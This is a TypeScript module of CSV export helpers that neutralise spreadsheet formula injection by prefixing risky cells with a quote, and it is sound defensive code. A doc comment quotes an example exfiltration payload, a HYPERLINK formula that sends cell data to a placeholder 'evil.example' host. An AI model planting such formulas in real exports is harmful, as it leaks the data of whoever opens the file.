import { stringify } from 'csv-stringify/sync';

/**
 * Spreadsheet programs run a cell that starts with one of these as a formula, so a progress note
 * or a name like `=HYPERLINK("https://evil.example/?d="&A2)` would become live in whoever opens
 * an export (OWASP "CSV injection"). Leading quotes are counted too, so the prefix can always be
 * taken off again exactly.
 */
const FORMULA_LIKE = /^'*[=+\-@\t\r]/;
const PREFIXED = /^'+[=+\-@\t\r]/;

/** A cell as it may go into a CSV file: prefixed with `'` when a spreadsheet would read it as a formula. */
export function neutraliseFormula(cell: string): string {
  return FORMULA_LIKE.test(cell) ? `'${cell}` : cell;
}

/** The inverse of neutraliseFormula, for CSV files read back in: an export → import round-trips. */
export function restoreFormulaPrefix(cell: string): string {
  return PREFIXED.test(cell) ? cell.slice(1) : cell;
}

/** The one way this app writes CSV: UTF-8 with a byte-order mark (so Excel reads accents), every cell neutralised. */
export function toSafeCsv(rows: string[][]): string {
  return '\ufeff' + stringify(rows.map((row) => row.map((cell) => neutraliseFormula(cell ?? ''))));
}
